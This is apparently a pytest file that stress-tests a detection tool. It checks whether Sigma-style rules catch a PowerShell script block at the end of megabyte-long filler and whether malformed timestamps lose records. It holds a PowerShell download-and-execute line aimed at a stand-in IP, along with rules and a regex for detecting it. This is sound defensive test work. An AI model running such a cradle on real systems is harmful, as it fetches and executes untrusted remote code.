"""Bad input of detection: hostile values, each found in bounded time and to its end."""

import json
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any
from xml.sax.saxutils import escape

import pytest

from tests.detect.scan import RULES, Scan
from tocsin.detect.rules import RuleSet, load

SIZE = 1_000_000  # characters of a script
END = "; IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.1/last-words')"
OURS = """\
title: Last words, as a text
id: by-text
logsource: {product: windows, category: ps_script}
detection: {sel: {ScriptBlockText|contains: last-words}, condition: sel}
---
title: Last words, as a pattern
id: by-pattern
logsource: {product: windows, category: ps_script}
detection: {sel: {ScriptBlockText|re: '(?i)iex.*new-object.*downloadstring.*last.words'}, condition: sel}
---
title: Last words, at the end
id: at-end
logsource: {product: windows, category: ps_script}
detection: {sel: {ScriptBlockText|endswith: "last-words')"}, condition: sel}
---
title: Last words, anywhere
id: keyword
logsource: {product: windows, category: ps_script}
detection: {words: ['last-words'], condition: words}
"""
FILLERS = {
    "words": "Write-Output 'nothing to see here' # ",
    "one letter": "A",
    "backticks": "`",
    "pieces": "('{1}{0}'-f'x','y')+",
    "commands": "set x=1 && set input && ",
    "lines": "$a = $b + 1\n",
    "accents": "éÉſK ",
    "base64": "QUJDREVGRw==",
    "spaces": " ",
}


@pytest.fixture(scope="module")
def rules(tmp_path_factory: pytest.TempPathFactory) -> RuleSet:
    path = tmp_path_factory.mktemp("rules") / "ours.yml"
    path.write_text(OURS)
    return load([RULES, path])


def as_json(script: str) -> str:
    return json.dumps({
        "EventID": 4104, "Channel": "Microsoft-Windows-PowerShell/Operational", "Hostname": "ws1.example.org",
        "ProviderName": "Microsoft-Windows-PowerShell", "TimeCreated": "2026-03-02T08:15:30.123Z",
        "ScriptBlockText": script, "ScriptBlockId": "1", "Path": "",
    }) + "\n"  # fmt: skip


def as_xml(script: str) -> str:
    return (
        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
        "<Provider Name='Microsoft-Windows-PowerShell'/><EventID>4104</EventID><Level>5</Level>"
        "<TimeCreated SystemTime='2026-03-02T08:15:30.1234567Z'/><EventRecordID>7</EventRecordID>"
        "<Channel>Microsoft-Windows-PowerShell/Operational</Channel><Computer>ws1.example.org</Computer></System>"
        f"<EventData><Data Name='MessageNumber'>1</Data><Data Name='ScriptBlockText'>{escape(script)}</Data>"
        "<Data Name='ScriptBlockId'>1</Data></EventData></Event>\n"
    )


@pytest.mark.parametrize("filler", FILLERS)
@pytest.mark.parametrize("made", [as_json, as_xml], ids=["json", "xml"])
def test_the_end_of_a_script_of_a_megabyte_is_found_in_bounded_time(
    made: Callable[[str], str], filler: str, rules: RuleSet, tmp_path: Path
) -> None:
    script = (FILLERS[filler] * SIZE)[: SIZE - len(END)] + END
    log = tmp_path / "script.log"
    log.write_text(made("Write-Output 1") * 3 + made(script) + made("Write-Output 2"), encoding="utf-8")
    scan = Scan(rules)
    began = time.process_time()
    scan.take([log])
    found = {one.finding.rule: one.finding.count for one in scan.findings()}
    assert time.process_time() - began < 30
    assert scan.records == 5
    assert {rule: found.get(rule) for rule in ("by-text", "by-pattern", "at-end", "keyword")} == {
        "by-text": 1, "by-pattern": 1, "at-end": 1, "keyword": 1,
    }  # fmt: skip


TIMES: list[Any] = [
    "1601-01-01T00:00:00.0000000Z", "1970-01-01T00:00:00Z", "9999-12-31T23:59:59.9999999Z", "0001-01-01T00:00:00Z",
    "0000-00-00T00:00:00Z", "2026-02-30T00:00:00Z", "2026-03-29T02:30:00", "2026-10-25T02:30:00", "+012026-01-01T0:0Z",
    "2026-01-01T24:00:00Z", "2026-06-30T23:59:60Z", "-1", "1e30", "99999999999999999999", "", "soon", None, 0, -1,
    1e300, 253402300800, 9223372036854775807, [], {}, "2026-01-01T00:00:00+99:99", "2026-01-01T00:00:00.1234567890123Z",
]  # fmt: skip


@pytest.mark.parametrize("field", ["TimeCreated", "@timestamp", "UtcTime"])
def test_a_time_that_cannot_be_loses_no_record(field: str, rules: RuleSet, tmp_path: Path) -> None:
    lines = []
    for number, time_ in enumerate(TIMES):
        event = json.loads(as_json(f"last-words number {number}"))
        del event["TimeCreated"]
        event[field] = time_
        lines.append(json.dumps(event))
    (tmp_path / "a.json").write_text("\n".join(lines) + "\n")
    scan = Scan(rules)
    scan.take([tmp_path / "a.json"])
    assert scan.records == len(TIMES)
    assert {one.finding.rule: one.finding.count for one in scan.findings()}["by-text"] == len(TIMES)


@pytest.mark.parametrize("filler", ["commands", "accents", "backticks", "pieces"])
def test_the_rules_of_sigmahq_end_with_a_megabyte_in_bounded_time(filler: str, data: Path, tmp_path: Path) -> None:
    script = (FILLERS[filler] * SIZE)[: SIZE - len(END)] + END
    rules = load([data / "sigma" / "rules"])
    titles = []
    for text in (script, END):
        (tmp_path / "a.json").write_text(as_json(text), encoding="utf-8")
        scan = Scan(rules)
        began = time.process_time()
        scan.take([tmp_path / "a.json"])
        titles.append({one.finding.title for one in scan.findings()})
        assert time.process_time() - began < 60
    assert "Suspicious PowerShell Invocations - Specific" in titles[1]
    assert titles[0] >= titles[1]
